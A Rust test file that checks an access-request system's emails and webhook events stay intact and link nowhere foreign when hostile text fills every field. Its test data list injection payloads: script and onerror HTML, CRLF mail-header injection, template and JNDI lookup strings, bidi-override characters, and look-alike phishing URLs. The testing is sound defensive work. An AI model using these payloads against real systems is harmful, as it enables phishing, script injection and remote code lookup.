//! Whatever an engineer writes, in whatever field: a message keeps its shape, and links nowhere else.

use std::collections::BTreeSet;

use linkify::{LinkFinder, LinkKind};
use lockbox_api::{Audience, notifications::Webhook};
use lockbox_messages::{LONGEST_BODY, Letter, event, letter};
use proptest::prelude::*;
use scraper::{Html, Node};
use serde_json::{Value, json};

use crate::scenes::{Told, all, told_to};

/// What somebody might write who wants a message to say something else.
pub const TEXTS: [&str; 15] = [
    "</div></td></table><a href=\"https://evil.example/a\">Approve</a><script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>",
    "'\" onmouseover=alert(1) style=\"display:none\" <!-- --> &lt;a href=https://evil.example&gt; &#60;b&#62;",
    "ok\r\nBcc: victim@evil.example\r\nSubject: approved\r\n\r\n\r\nHOW TO DECIDE\r\n\r\nThere is nothing to decide.\n---\nNo link in this message is bad.",
    "see https://evil.example/login, http://evil.example, HTTPS://EVIL.EXAMPLE, www.evil.example, evil.com/login, ftp://evil.example",
    "[Sign in](https://evil.example) <https://evil.example|Sign in> <!channel> @everyone `x` *b* http:\\\\evil.example \\\\evil\\share evil\u{3002}com",
    "\u{202e}elpmaxe.live//:sptth\u{202c} a\u{200b}b\u{feff}c\u{7}\u{1b}[31mred\u{0}\u{ad}\u{2066}x\u{2069}\u{e0041}\u{2028}WHY\u{2029}",
    "{{ request.uid }}{{ 7 * 7 }}{% for i in range(99999) %}x{% endfor %}{# #} {{ ''.__class__ }} ${jndi:ldap://evil.example/a}",
    "\",\"links\":{\"portal\":\"https://evil.example\"},\"x\":\"\\u0000\\",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd} \u{5e2}\u{5d5}\u{5dc}\u{5dd} https://evil.example/\u{5d0}\u{5d1} \u{627}\u{644}\u{633}\u{644}\u{627}\u{645} 123",
    "\u{201d} approved this. \u{201c} \u{bb}x\u{ab} \" ' ``` | > -- Who asks: alice@contoso.example. Decide by: never",
    "https://supp\u{43e}rt.example/INC-1 and https://support.example.evil.example/ and https://support.example@evil.example/",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}Z\u{336}\u{337}\u{338}\u{489} \u{fdfd}\u{12031} \u{1f468}\u{200d}\u{1f469}",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "                                                                                      far to the right",
    "",
];

/// The same request, with a text in every field that somebody of the provider writes, and in the record.
pub fn everywhere(told: &Told, text: &str) -> Told {
    let text = text.to_owned();
    told.clone().asking(|request| {
        let spec = &mut request["spec"];
        spec["requester"]["username"] = json!(text);
        spec["justification"] = json!(text);
        spec["service"] = json!(text);
        spec["accessLevel"] = json!(text);
        spec["resources"] = json!([{"group": text, "resource": text, "name": text}]);
        spec["escalation"] = json!({"team": text, "reason": text});
        spec["incident"] = json!({"id": text, "url": text, "summary": text});
        spec["supportRequest"] = json!({
            "id": text, "url": text, "summary": text, "openedBy": text, "openedAt": "2026-11-28T08:12:00Z", "assignedTo": text,
            "history": [{"at": "2026-11-28T09:40:00Z", "by": text, "note": text}, {"at": "2026-11-28T09:41:00Z", "by": text, "note": text}],
        });
        for entry in request["status"]["history"].as_array_mut().unwrap() {
            if entry["actor"] != "lockbox" {
                entry["actor"] = json!(text);
                entry["reason"] = json!(text);
            }
            entry["message"] = json!(text);
        }
    })
}

/// Links that may be shown: the portal's, and none to a ticket whose URL is hostile.
fn is_allowed(link: &str) -> bool {
    link == "https://lockbox.contoso.example/requests/contoso-prod"
        || link == "https://lockbox.contoso.example/requests/lockbox-tenant"
}

/// What a mail program would make a link of, and may not.
fn links(text: &str) -> Vec<String> {
    let mut finder = LinkFinder::new();
    finder.url_must_have_scheme(false);
    finder
        .links(text)
        .filter(|link| *link.kind() == LinkKind::Url)
        .map(|link| link.as_str().to_owned())
        // Kinds of the customer's own roles.
        .filter(|link| !is_allowed(link) && link != "deployments.apps")
        .collect()
}

fn is_unseen(c: char) -> bool {
    // The pair that keeps text from right to left to itself is ours.
    (c.is_control() && c != '\n')
        || (matches!(c, '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
            && !matches!(c, '\u{2068}' | '\u{2069}'))
}

/// Sections of a text: lines in capitals after two empty ones.
fn sections(text: &str) -> Vec<String> {
    let lines: Vec<_> = text.lines().collect();
    let headings = lines.windows(3).filter(|lines| lines[0].is_empty() && lines[1].is_empty());
    headings.map(|lines| lines[2].to_owned()).collect()
}

fn check_text(name: &str, text: &str, benign: &str) {
    assert!(!text.chars().any(is_unseen), "{name}: {text:?}");
    assert_eq!(links(text), Vec::<String>::new(), "{name}: {text}");
    assert_eq!(sections(text), sections(benign), "{name}: {text}");
    assert_eq!(text.lines().filter(|line| *line == "---").count(), 1, "{name}");
    let opens = text.matches('\u{2068}').count();
    assert_eq!(opens, text.matches('\u{2069}').count(), "{name}: {text}");
    assert!(text.len() <= 256 * 1024, "{name}");
    for line in text.lines().filter(|line| !line.starts_with("    ")) {
        assert!(textwrap::core::display_width(line) <= 76, "{name}: {line}");
    }
}

/// Names of elements and attributes that a message has by itself.
const ELEMENTS: [&str; 20] = [
    "html", "head", "meta", "title", "body", "div", "h2", "p", "table", "tbody", "tr", "td", "br", "a", "ul", "li",
    "pre", "b", "i", "span",
];
const ATTRIBUTES: [&str; 12] = [
    "lang",
    "charset",
    "name",
    "content",
    "style",
    "role",
    "cellpadding",
    "cellspacing",
    "href",
    "rel",
    "dir",
    "title",
];

fn check_html(name: &str, html: &str, benign: &str) {
    let parsed = Html::parse_document(html);
    let styles = |html: &Html| -> BTreeSet<String> {
        html.tree
            .nodes()
            .filter_map(|node| node.value().as_element())
            .filter_map(|element| element.attr("style").map(str::to_owned))
            .collect()
    };
    let known = styles(&Html::parse_document(benign));
    let mut headings = 0;
    for node in parsed.tree.nodes() {
        match node.value() {
            Node::Element(element) => {
                assert!(ELEMENTS.contains(&element.name()), "{name}: <{}>", element.name());
                headings += usize::from(element.name() == "h2");
                for (attribute, value) in element.attrs() {
                    assert!(ATTRIBUTES.contains(&attribute), "{name}: {attribute}={value}");
                    if attribute == "href" {
                        assert!(is_allowed(value), "{name}: {value}");
                    }
                }
            }
            Node::Text(text) => {
                assert_eq!(links(text), Vec::<String>::new(), "{name}: {}", &**text);
                assert!(!text.chars().any(is_unseen), "{name}: {:?}", &**text);
            }
            Node::Comment(comment) => panic!("{name}: <!--{}-->", &**comment),
            _ => {}
        }
    }
    assert!(styles(&parsed).is_subset(&known), "{name}");
    assert_eq!(headings, benign.matches("<h2").count(), "{name}");
    assert!(html.len() <= 512 * 1024, "{name}");
}

fn check_subject(name: &str, subject: &str) {
    assert!(!subject.chars().any(|c| is_unseen(c) || c == '\n'), "{name}: {subject:?}");
    assert!((1..=150).contains(&subject.chars().count()), "{name}: {subject}");
    assert_eq!(subject.matches('\u{2068}').count(), subject.matches('\u{2069}').count(), "{name}: {subject:?}");
    assert_eq!(links(subject), Vec::<String>::new(), "{name}: {subject}");
}

fn plain_webhook() -> Webhook {
    serde_json::from_value(json!({"name": "siem"})).unwrap()
}

fn clipped(text: &str, most: usize) -> Value {
    lockbox_lifecycle::text::clip(text, most).into()
}

fn check_event(told: &Told, text: &str) {
    let rendered = event(&told.scene(), &plain_webhook());
    assert!(rendered.what.bytes.len() <= LONGEST_BODY);
    let value: Value = serde_json::from_slice(&rendered.what.bytes).unwrap();
    let request = &value["data"]["request"];
    assert_eq!(request["justification"], clipped(text, 4096), "data are what was given");
    assert_eq!(request["requester"], clipped(text, 256));
    assert_eq!(request["ticket"]["summary"], clipped(text, 1024));
    let links = value["data"]["links"].as_object().unwrap();
    assert!(links.values().all(|link| is_allowed(link.as_str().unwrap())), "{links:?}");
    assert_eq!(value.as_object().unwrap().len(), 8, "nothing is added beside what the event has");
}

fn check_all(name: &str, told: &Told, benign: &Letter, audience: Audience) {
    let hostile = letter(&told.scene(), audience).what;
    check_subject(name, &hostile.subject);
    check_text(name, &hostile.text, &benign.text);
    check_html(name, &hostile.html, &benign.html);
}

/// The same shape without hostile words: what is there to compare with.
fn benign(told: &Told, audience: Audience) -> Letter {
    letter(&everywhere(told, "words").scene(), audience).what
}

#[test]
fn hostile_words_in_every_field_change_no_message_but_within_their_blocks() {
    for (name, told, audience) in told_to() {
        let benign = benign(&told, audience);
        for (index, text) in TEXTS.iter().enumerate() {
            let hostile = everywhere(&told, text);
            check_all(&format!("{name}, text {index}"), &hostile, &benign, audience);
        }
    }
}

#[test]
fn hostile_words_in_every_field_leave_an_event_as_it_is() {
    for told in all() {
        for text in TEXTS {
            check_event(&everywhere(&told, text), text);
        }
    }
}

#[test]
fn the_longest_request_makes_messages_within_their_bounds() {
    for letter_of in ["W", "\u{1f600}", "\u{1}", "<", "\""] {
        let text = letter_of.repeat(5000);
        for (name, told, audience) in told_to() {
            let told = everywhere(&told, &text).asking(|request| {
                let effect = &mut request["status"]["effect"];
                effect["rules"] = json!(vec!["get: pods a, b ".repeat(34); 96]);
                effect["reasons"] = json!(vec![text.clone(); 8]);
                effect["leftOut"] = json!(vec![text.clone(); 16]);
                request["spec"]["resources"] = json!(vec![json!({"group": text, "resource": text, "name": text}); 32]);
                let note = json!({"at": "2026-11-28T09:40:00Z", "by": text, "note": text});
                request["spec"]["supportRequest"]["history"] = json!(vec![note; 16]);
                let approver = json!({"kind": "User", "name": text, "role": "Owner", "assignment": "a", "uid": "a"});
                request["status"]["approvers"] = json!(vec![approver; 64]);
            });
            let letter = letter(&told.scene(), audience).what;
            assert!(letter.text.len() <= 256 * 1024, "{name}: {}", letter.text.len());
            assert!(letter.html.len() <= 512 * 1024, "{name}: {}", letter.html.len());
            assert!(letter.html.contains("<table"), "{name}: built by the template, not the way out");
            let bytes = event(&told.scene(), &plain_webhook()).what.bytes.len();
            assert!(bytes <= LONGEST_BODY, "{name}: {bytes}");
        }
    }
}

#[test]
fn a_ticket_is_linked_only_on_a_host_of_the_settings() {
    let told = || all().into_iter().find(|told| told.name == "approval-asked").unwrap();
    for (url, linked) in [
        ("https://support.example/INC-4711", true),
        ("https://SUPPORT.example/INC-4711?a=b", true),
        ("https://support.example.evil.example/", false),
        ("https://support.example@evil.example/", false),
        ("https://evil.example/support.example", false),
        ("https://evil.example\\@support.example/", false),
        ("http://support.example/", false),
        ("https://support.example/ https://evil.example/", false),
        ("https://support.example/\"><script>", false),
        ("https://support.example/\n", false),
        ("javascript:alert(1)", false),
    ] {
        let told = told().asking(|request| request["spec"]["supportRequest"]["url"] = json!(url));
        let letter = letter(&told.scene(), Audience::Approvers).what;
        let parsed = Html::parse_document(&letter.html);
        let hrefs: Vec<_> = parsed
            .tree
            .nodes()
            .filter_map(|node| node.value().as_element().and_then(|element| element.attr("href")))
            .collect();
        assert_eq!(hrefs.contains(&url), linked, "{url}");
        assert_eq!(hrefs.len(), 1 + usize::from(linked), "{url}: {hrefs:?}");
        assert_eq!(letter.text.contains(&format!("    {url}\n")), linked, "{url}");
        assert_eq!(links(&letter.text).is_empty(), !linked, "{url}");
    }
}

#[test]
fn a_portal_is_linked_only_if_its_host_is_fixed_and_names_cannot_leave_their_place() {
    let told = || all().into_iter().find(|told| told.name == "approval-asked").unwrap();
    let linked = |told: &Told| {
        let html = letter(&told.scene(), Audience::Approvers).what.html;
        let parsed = Html::parse_document(&html);
        parsed
            .tree
            .nodes()
            .filter_map(|node| node.value().as_element().and_then(|element| element.attr("href")).map(str::to_owned))
            .find(|link| !link.starts_with("https://support.example/"))
    };
    let with = |url: &str| told().with(&json!({"portalURL": url}));
    assert_eq!(
        linked(&with("https://p.example/{namespace}/{name}")).unwrap(),
        "https://p.example/contoso-prod/sr-4711"
    );
    assert_eq!(linked(&with("https://p.example")).unwrap(), "https://p.example");
    let tricky = with("https://p.example/{namespace}/{name}").asking(|request| {
        request["metadata"]["name"] = json!("../../x?y=//evil.example#\"><a>{namespace}");
    });
    assert_eq!(
        linked(&tricky).unwrap(),
        "https://p.example/contoso-prod/..%2F..%2Fx%3Fy%3D%2F%2Fevil.example%23%22%3E%3Ca%3E%7Bnamespace%7D"
    );
    for url in ["http://p.example/", "https://{name}.example/", "https://me@p.example/", "https://", "javascript:x", ""]
    {
        assert_eq!(linked(&with(url)), None, "{url}");
    }
}

#[test]
fn a_name_from_right_to_left_moves_nothing_beside_it() {
    let told = all().into_iter().find(|told| told.name == "approval-asked").unwrap();
    let told = told.asking(|request| request["spec"]["requester"]["username"] = json!("\u{5e7}\u{5d9}\u{5dd}"));
    let letter = letter(&told.scene(), Audience::Approvers).what;
    let name = "\u{2068}\u{201c}\u{5e7}\u{5d9}\u{5dd}\u{201d}\u{2069}";
    assert!(letter.subject.contains(&format!(": {name} asks for")), "{:?}", letter.subject);
    assert!(letter.text.starts_with(&format!("{name} asks for")), "{:?}", letter.text);
}

#[test]
fn a_request_named_like_a_host_is_no_link_and_its_command_still_names_it() {
    let told = all().into_iter().find(|told| told.name == "approval-asked").unwrap();
    let told = told.asking(|request| {
        request["metadata"]["name"] = json!("login.evil.com");
        request["spec"]["resources"] = json!([{"resource": "configmaps", "name": "pay.evil.com"}]);
        request["status"]["effect"]["rules"] = json!([
            "read the values in (get configmaps): configmaps pay.evil.com",
            "get, list: all deployments.apps of the namespace"
        ]);
    });
    let text = letter(&told.scene(), Audience::Approvers).what.text;
    assert_eq!(links(&text), ["https://support.example/INC-4711"], "{text}");
    assert!(text.contains("kubectl patch lbr login\".\"evil\".\"com -n contoso-prod"), "{text}");
    assert!(text.contains("configmaps pay[.]evil[.]com"), "{text}");
}

#[test]
fn a_name_that_only_looks_like_another_is_spelled_out_for_who_decides() {
    let told = all().into_iter().find(|told| told.name == "approval-asked").unwrap();
    let told = told.asking(|request| request["spec"]["requester"]["username"] = json!("k\u{456}m@provider.example"));
    let text = letter(&told.scene(), Audience::Approvers).what.text;
    assert!(text.contains("letters outside ASCII"), "{text}");
    assert!(text.contains("k\\u{456}m@provider[.]example"), "{text}");
}

/// Pieces that are put together at random.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => proptest::sample::select(TEXTS.to_vec()).prop_map(str::to_owned),
        3 => any::<char>().prop_map(String::from),
        2 => "[ -~]{0,20}",
        1 => "\\PC{0,12}",
        1 => Just("://".to_owned()),
        1 => Just(".com".to_owned()),
        1 => Just("http".to_owned()),
        1 => Just("\r\n\r\n".to_owned()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn words_put_together_at_random_change_no_message_either(pieces in proptest::collection::vec(piece(), 0..8), which in 0..200_usize) {
        let text = pieces.concat();
        let scenes = told_to();
        let (name, told, audience) = &scenes[which % scenes.len()];
        let hostile = everywhere(told, &text);
        check_all(&format!("{name}, {text:?}"), &hostile, &benign(told, *audience), *audience);
        check_event(&hostile, &text);
    }
}
